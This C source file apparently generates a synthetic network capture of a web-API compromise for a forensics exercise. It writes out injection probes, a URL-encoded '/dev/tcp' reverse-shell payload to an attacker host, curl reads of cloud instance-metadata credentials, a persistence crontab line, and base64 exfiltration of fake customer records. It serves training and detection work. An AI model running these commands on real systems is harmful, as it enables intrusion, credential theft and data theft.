/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c - the attack as the API VM's capture records it: recon and injection probes on
 * /dangerzone from 203.0.113.87, the request whose category carries
 * `&&sh -i >& /dev/tcp/198.51.100.23/3000 0>&1` (URL-encoded the way python-requests sends
 * it), the reverse shell to 198.51.100.23:3000 (no DNS lookup before it), what was typed in
 * it (instance metadata credentials, a crontab entry, an export of customer records), and
 * the cron callbacks every 15 minutes afterwards.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ci.h"
#include "gz.h"
#include "rng.h"
#include "timefmt.h"

#define UA_CURL "curl/7.88.1"
#define UA_PY "python-requests/2.31.0"

/* One request/response on the attacker's HTTP session to the API. */
static void attacker_get(struct ci_world *cw, struct pcap_tcp *s, const char *uri,
                         const char *ua, int code, const char *body, int64_t think)
{
    struct sb rq = {0}, rs = {0};
    pcap_http_req(&rq, "GET", uri, "api.shopfront.example", ua,
                  "Accept: */*\r\n", NULL, 0);
    pcap_tcp_send(s, 1, rq.p, rq.n);
    pcap_tcp_wait(s, think);
    pcap_http_resp(&rs, s->t, code, "gunicorn", "application/json", NULL, body, strlen(body));
    pcap_tcp_send(s, 0, rs.p, rs.n);
    cw->http_requests++;
    free(rq.p);
    free(rs.p);
}

static void b64(struct sb *o, const unsigned char *p, size_t n, int wrap)
{
    static const char T[] = RNG_B64;
    int col = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
                     (i + 2 < n ? p[i + 2] : 0);
        char q[4] = {T[v >> 18], T[(v >> 12) & 63], i + 1 < n ? T[(v >> 6) & 63] : '=',
                     i + 2 < n ? T[v & 63] : '='};
        sb_add(o, q, 4);
        col += 4;
        if (col >= wrap) {
            sb_s(o, "\n");
            col = 0;
        }
    }
    if (col)
        sb_s(o, "\n");
}

/* The stolen export: customer records as the application writes them. */
static void customers_csv(struct sb *o, int rows)
{
    static const char *const first[] = {"Anna", "Lukas", "Mia", "Jonas", "Emma", "Noah", "Lea",
                                        "Elias", "Sofia", "Paul", "Clara", "Ben", "Marie"};
    static const char *const last[] = {"Schmidt", "Meyer", "Weber", "Wagner", "Becker",
                                       "Hoffmann", "Koch", "Richter", "Klein", "Wolf"};
    static const char *const city[] = {"Berlin", "Hamburg", "Munich", "Cologne", "Vienna",
                                       "Zurich", "Amsterdam", "Lyon"};
    sb_s(o, "customer_id,first_name,last_name,email,phone,city,card_last4,created_at\n");
    for (int i = 0; i < rows; i++) {
        unsigned v[8];
        for (int k = 0; k < 8; k++) /* one draw per statement: argument order is unspecified */
            v[k] = (unsigned)rng_u64();
        const char *f = first[v[0] % 13], *l = last[v[1] % 10];
        sb_f(o, "%d,%s,%s,%c.%s%u@mail.example,+49 1%02u %07u,%s,%04u,2026-%02u-%02u\n",
             100000 + i, f, l, f[0] | 0x20, l, v[2] % 100, v[3] % 80, v[4] % 10000000,
             city[v[5] % 8], v[6] % 10000, 1 + v[7] % 10, 1 + (v[7] >> 8) % 28);
    }
}

/* A metadata request from the VM (curl typed in the shell). */
static void imds_get(struct ci_world *cw, int64_t t, const char *uri, const char *body)
{
    struct pcap_tcp s;
    struct sb rq = {0}, rs = {0};
    ci_open(cw, &s, t, 300, &cw->vm, -1, &cw->imds, 80);
    pcap_http_req(&rq, "GET", uri, CI_IMDS_IP, UA_CURL, "Accept: */*\r\n", NULL, 0);
    pcap_http_resp(&rs, s.t + 400, 200, "EC2ws", "text/plain",
                   "Accept-Ranges: none\r\nLast-Modified: Tue, 03 Nov 2026 07:02:11 GMT\r\n",
                   body, strlen(body));
    pcap_http(&s, rq.p, rq.n, 400, rs.p, rs.n);
    pcap_tcp_close(&s, 1);
    cw->http_requests++;
    free(rq.p);
    free(rs.p);
}

/* Type a command in the shell (from the listener) and get its output and the next prompt. */
static void shell(struct pcap_tcp *s, int64_t idle, const char *cmd, const char *out)
{
    struct sb o = {0};
    pcap_tcp_wait(s, idle);
    pcap_tcp_send(s, 0, cmd, strlen(cmd));
    pcap_tcp_wait(s, rng_range(2000, 60000));
    sb_s(&o, out);
    sb_s(&o, "$ ");
    pcap_tcp_send(s, 1, o.p, o.n);
    free(o.p);
}

/* The reverse shell session, from the VM to the listener; returns when it ended. */
static int64_t reverse_shell(struct ci_world *cw, int64_t t)
{
    struct pcap_tcp s;
    struct pcap_host c2 = ci_remote(cw, CI_ATTACKER_C2_IP, 46);
    struct sb o = {0}, csv = {0};
    ci_note(cw, t, "reverse shell: the VM connects to " CI_ATTACKER_C2_IP ":3000 (no DNS lookup "
            "of that address anywhere in the capture); session lasts until 15:58");
    ci_open(cw, &s, t, 96000, &cw->vm, -1, &c2, CI_C2_PORT);
    const char *banner = "sh: 0: can't access tty; job control turned off\n$ ";
    pcap_tcp_send(&s, 1, banner, strlen(banner));
    shell(&s, 4200000, "id\n", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
    shell(&s, 3100000, "uname -a\n", "Linux api-vm-1 6.1.0-26-cloud-amd64 #1 SMP "
          "PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\n");
    shell(&s, 5800000, "pwd; ls -la\n", "/srv/api\ntotal 40\n"
          "drwxr-xr-x 5 www-data www-data 4096 Oct 28 09:14 .\n"
          "drwxr-xr-x 3 root     root     4096 Mar  4  2026 ..\n"
          "-rw-r----- 1 www-data www-data  412 Oct 28 09:14 .env\n"
          "-rw-r--r-- 1 www-data www-data 5120 Oct 28 09:14 app.py\n"
          "drwxr-xr-x 4 www-data www-data 4096 Oct 28 09:14 data\n"
          "-rwxr-xr-x 1 www-data www-data  933 Oct 28 09:14 export.sh\n"
          "drwxr-xr-x 2 www-data www-data 4096 Oct 28 09:14 static\n");
    shell(&s, 9400000, "cat .env\n", "DATABASE_URL=postgresql://shop:Wq7-summer-2026@"
          "10.0.4.31:5432/shop\nINVENTORY_URL=http://inventory.svc.internal:8080\n"
          "EXPORT_DIR=/srv/api/data/exports\nSESSION_SECRET=9f2c7d1e5b8a4c6f\n");
    shell(&s, 12000000, "ps aux | grep -v ']$' | head -8\n",
          "USER  PID %CPU %MEM    VSZ   RSS TTY STAT START TIME COMMAND\n"
          "root    1  0.0  0.6 103888 12480 ?  Ss   Oct28 0:21 /sbin/init\n"
          "root  412  0.0  0.3  24492  6112 ?  Ss   Oct28 0:02 /usr/sbin/chronyd -F 1\n"
          "www-data 812 0.1 2.4 61240 48812 ? Ss  Oct28 4:51 /usr/bin/python3 /usr/bin/gunicorn"
          " -b 0.0.0.0:80 app:app\n"
          "www-data 6131 0.0 0.1 2576 980 ?   S    13:47 0:00 /bin/bash -c ./export.sh "
          "--category fashion&&sh -i >& /dev/tcp/198.51.100.23/3000 0>&1\n"
          "www-data 6133 0.0 0.0 2576 876 ?   S    13:47 0:00 sh -i\n");

    /* Instance metadata: the role's temporary credentials. */
    const char *cmd1 = "curl -s http://169.254.169.254/latest/meta-data/iam/"
                       "security-credentials/\n";
    pcap_tcp_wait(&s, 41000000);
    pcap_tcp_send(&s, 0, cmd1, strlen(cmd1));
    ci_note(cw, s.t + 3000, "instance metadata (IMDSv1, no token): the role name " CI_ROLE);
    imds_get(cw, s.t + 3000, "/latest/meta-data/iam/security-credentials/", CI_ROLE);
    pcap_tcp_wait(&s, 9000);
    pcap_tcp_send(&s, 1, CI_ROLE "$ ", strlen(CI_ROLE "$ "));
    char key[21], secret[41], token[161], creds[900];
    rng_chars(key, 16, RNG_ALNUMU);
    rng_chars(secret, 40, RNG_B64);
    rng_chars(token, 160, RNG_B64);
    snprintf(creds, sizeof creds, "{\n  \"Code\" : \"Success\",\n  \"LastUpdated\" : "
             "\"2026-11-03T13:21:07Z\",\n  \"Type\" : \"AWS-HMAC\",\n  \"AccessKeyId\" : "
             "\"ASIA%s\",\n  \"SecretAccessKey\" : \"%s\",\n  \"Token\" : \"%s\",\n"
             "  \"Expiration\" : \"2026-11-03T19:46:18Z\"\n}", key, secret, token);
    const char *cmd2 = "curl -s http://169.254.169.254/latest/meta-data/iam/"
                       "security-credentials/" CI_ROLE "\n";
    pcap_tcp_wait(&s, 7000000);
    pcap_tcp_send(&s, 0, cmd2, strlen(cmd2));
    ci_note(cw, s.t + 3000, "instance metadata: temporary credentials of arn:aws:iam::"
            CI_ACCOUNT ":role/" CI_ROLE " (AccessKeyId ASIA...) read and echoed into the shell");
    imds_get(cw, s.t + 3000, "/latest/meta-data/iam/security-credentials/" CI_ROLE, creds);
    pcap_tcp_wait(&s, 9000);
    sb_s(&o, creds);
    sb_s(&o, "$ ");
    pcap_tcp_send(&s, 1, o.p, o.n);
    sb_reset(&o);

    /* Persistence: a crontab entry that calls back every 15 minutes. */
    pcap_tcp_wait(&s, 6 * 60 * 1000000LL);
    ci_note(cw, s.t, "persistence: www-data's crontab gets `" CI_CRON_LINE "` (typed in the "
            "shell)");
    shell(&s, 0, "(crontab -l 2>/dev/null; echo \"" CI_CRON_LINE "\") | crontab -\n", "");
    shell(&s, 8000000, "crontab -l\n", CI_CRON_LINE "\n");

    /* Impact: the customer export, gzip'd and base64'd through the shell. */
    shell(&s, 95000000, "ls -la data/exports/\n", "total 2212\n"
          "drwxr-x--- 2 www-data www-data    4096 Nov  1 02:00 .\n"
          "drwxr-xr-x 4 www-data www-data    4096 Oct 28 09:14 ..\n"
          "-rw-r----- 1 www-data www-data  811245 Oct  1 02:00 customers-2026-09.csv\n"
          "-rw-r----- 1 www-data www-data  834790 Nov  1 02:00 " CI_EXPORT "\n");
    customers_csv(&csv, 3000);
    size_t gzn;
    unsigned char *gzp = gz_mem(csv.p, csv.n, &gzn);
    b64(&o, gzp, gzn, 76);
    const char *cmd3 = "gzip -c data/exports/" CI_EXPORT " | base64\n";
    pcap_tcp_wait(&s, 31000000);
    pcap_tcp_send(&s, 0, cmd3, strlen(cmd3));
    pcap_tcp_wait(&s, 120000);
    char what[200];
    snprintf(what, sizeof what, "exfiltration: data/exports/" CI_EXPORT " (%zu bytes of CSV, "
             "%zu gzip'd) sent base64 over the shell to " CI_ATTACKER_C2_IP ":3000", csv.n, gzn);
    ci_note(cw, s.t, what);
    sb_s(&o, "$ ");
    pcap_tcp_send(&s, 1, o.p, o.n);
    free(gzp);
    free(csv.p);
    free(o.p);

    shell(&s, 14 * 60 * 1000000LL, "ls /tmp\n", "systemd-private-chronyd.service-Dk1kTq\n");
    shell(&s, 83 * 60 * 1000000LL, "w\n", " 15:58:02 up 6 days,  6:44,  0 users,  load "
          "average: 0.08, 0.06, 0.02\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU"
          "   PCPU WHAT\n");
    pcap_tcp_wait(&s, 9000000);
    pcap_tcp_send(&s, 0, "exit\n", 5);
    pcap_tcp_wait(&s, 1500);
    pcap_tcp_close(&s, 1);
    return s.t;
}

/* The cron job's callbacks: refused while nobody listens, one answered in the evening. */
static void callbacks(struct ci_world *cw)
{
    struct pcap_host c2 = ci_remote(cw, CI_ATTACKER_C2_IP, 46);
    int first = 1;
    for (int k = 0; k < 40; k++) {
        int64_t t = ci_at(cw, 14 + k / 4, (k % 4) * 15, 0, (int)rng_range(1000, 40000));
        if (k / 4 == 5 && k % 4 == 2) {
            struct pcap_tcp s;
            ci_note(cw, t, "a cron callback is answered: second shell session to "
                    CI_ATTACKER_C2_IP ":3000 (whoami, crontab -l, exit)");
            ci_open(cw, &s, t, 96000, &cw->vm, -1, &c2, CI_C2_PORT);
            const char *banner = "sh: 0: can't access tty; job control turned off\n$ ";
            pcap_tcp_send(&s, 1, banner, strlen(banner));
            shell(&s, 6000000, "whoami\n", "www-data\n");
            shell(&s, 4000000, "crontab -l\n", CI_CRON_LINE "\n");
            pcap_tcp_wait(&s, 11 * 60 * 1000000LL);
            pcap_tcp_send(&s, 0, "exit\n", 5);
            pcap_tcp_wait(&s, 1200);
            pcap_tcp_close(&s, 1);
            continue;
        }
        if (first)
            ci_note(cw, t, "first cron callback to " CI_ATTACKER_C2_IP ":3000, refused (RST); "
                    "one every 15 minutes until midnight");
        ci_refused(cw, t, 96000, &c2, CI_C2_PORT);
        first = 0;
    }
}

void ci_attack(struct ci_world *cw)
{
    struct pcap_tcp s;
    struct pcap_host att = ci_remote(cw, CI_ATTACKER_WEB_IP, 47);
    int64_t t = ci_at(cw, 13, 41, 5, 218000);

    /* Recon with curl: what the endpoint does. */
    ci_note(cw, t, "recon from " CI_ATTACKER_WEB_IP " (curl): /, /api/v1/, /dangerzone");
    ci_open(cw, &s, t, 71000, &att, 0, &cw->vm, 80);
    attacker_get(cw, &s, "/", UA_CURL, 404, "{\"error\":\"not found\"}", 1800);
    pcap_tcp_wait(&s, 2400000);
    attacker_get(cw, &s, "/api/v1/", UA_CURL, 404, "{\"error\":\"not found\"}", 1700);
    pcap_tcp_wait(&s, 5100000);
    attacker_get(cw, &s, "/dangerzone", UA_CURL, 400,
                 "{\"error\":\"missing parameter: category\"}", 2100);
    pcap_tcp_wait(&s, 4300000);
    attacker_get(cw, &s, "/dangerzone?category=fashion", UA_CURL, 200,
                 "{\"category\":\"fashion\",\"export\":\"exported 41 items to "
                 "data/exports/fashion.json\\n\"}", 38000);
    pcap_tcp_close(&s, 1);

    /* Injection probes: the command's output comes back in the JSON. */
    t = ci_at(cw, 13, 43, 38, 602000);
    ci_open(cw, &s, t, 71000, &att, 0, &cw->vm, 80);
    pcap_tcp_wait(&s, 1);
    ci_note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26id answers "
            "uid=33(www-data)");
    attacker_get(cw, &s, "/dangerzone?category=fashion%26%26id", UA_CURL, 200,
                 "{\"category\":\"fashion&&id\",\"export\":\"exported 41 items to "
                 "data/exports/fashion.json\\nuid=33(www-data) gid=33(www-data) "
                 "groups=33(www-data)\\n\"}", 41000);
    pcap_tcp_wait(&s, 21000000);
    ci_note(cw, s.t, "injection probe: GET /dangerzone?category=fashion%26%26sleep+5 answers "
            "5 s later");
    attacker_get(cw, &s, "/dangerzone?category=fashion%26%26sleep+5", UA_CURL, 200,
                 "{\"category\":\"fashion&&sleep 5\",\"export\":\"exported 41 items to "
                 "data/exports/fashion.json\\n\"}", 5043000);
    pcap_tcp_close(&s, 1);

    /* The payload, as python-requests encodes params={"category": ...}. */
    struct pcap_tcp h;
    struct sb rq = {0}, rs = {0};
    t = ci_at(cw, 13, 47, 3, 377000);
    ci_open(cw, &h, t, 71000, &att, 0, &cw->vm, 80);
    pcap_http_req(&rq, "GET", "/dangerzone?category=fashion%26%26sh+-i+%3E%26+%2Fdev%2Ftcp%2F"
                  "198.51.100.23%2F3000+0%3E%261", "api.shopfront.example", UA_PY,
                  "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nConnection: keep-alive\r\n",
                  NULL, 0);
    ci_note(cw, h.t, "initial access: GET /dangerzone?category=fashion&&sh -i >& "
            "/dev/tcp/198.51.100.23/3000 0>&1 (URL-encoded) from " CI_ATTACKER_WEB_IP
            "; the response only comes when the shell exits");
    pcap_tcp_send(&h, 1, rq.p, rq.n);
    cw->http_requests++;
    int64_t end = reverse_shell(cw, h.t + 181000);
    pcap_tcp_wait(&h, end + 4000 - h.t);
    const char *body = "{\"category\":\"fashion&&sh -i >& /dev/tcp/198.51.100.23/3000 0>&1\","
                       "\"export\":\"exported 41 items to data/exports/fashion.json\\n\"}";
    pcap_http_resp(&rs, h.t, 200, "gunicorn", "application/json", NULL, body, strlen(body));
    pcap_tcp_send(&h, 0, rs.p, rs.n);
    pcap_tcp_close(&h, 1);
    free(rq.p);
    free(rs.p);
    callbacks(cw);
}
